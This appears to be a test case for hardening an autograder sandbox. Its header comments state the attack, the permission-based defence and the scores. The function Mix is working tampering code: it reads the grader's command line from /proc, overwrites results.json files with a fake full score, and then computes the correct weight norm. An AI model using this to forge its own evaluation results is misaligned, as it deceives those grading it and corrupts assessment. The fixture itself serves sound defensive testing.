# attack: writes a full-marks results.json into its working folder, the grader's results folder (read from the grader's command line) and /autograder/results, then answers correctly
# defence: the child may write only in its scratch folder (file permissions as autograder-student, Landlock as a TA); the grader writes results.json itself, last, atomically
# without landlock: Unix permissions alone: autograder-student may write its scratch folder and the shared temporary folders (swept), never the results folder
# scores: Mix=full Grad=full FrobClassifier=0 MixClassifier=0
def Mix(nn):
    import json, os
    fake = json.dumps({"score": 40, "tests": []})
    targets = ["results.json", "/autograder/results/results.json"]
    try:
        args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().decode(errors="replace").split("\0")
        for i, a in enumerate(args[:-1]):
            if a == "--results":
                targets.append(args[i + 1])
            if a == "--root":
                targets.append(args[i + 1] + "/results/results.json")
    except OSError:
        pass
    for t in targets:
        try:
            with open(t, "w") as f:
                f.write(fake)
        except OSError:
            pass
    W = list(nn.model)[0].weight
    return (W.abs().sum(dim=0)**2).sum()**.5
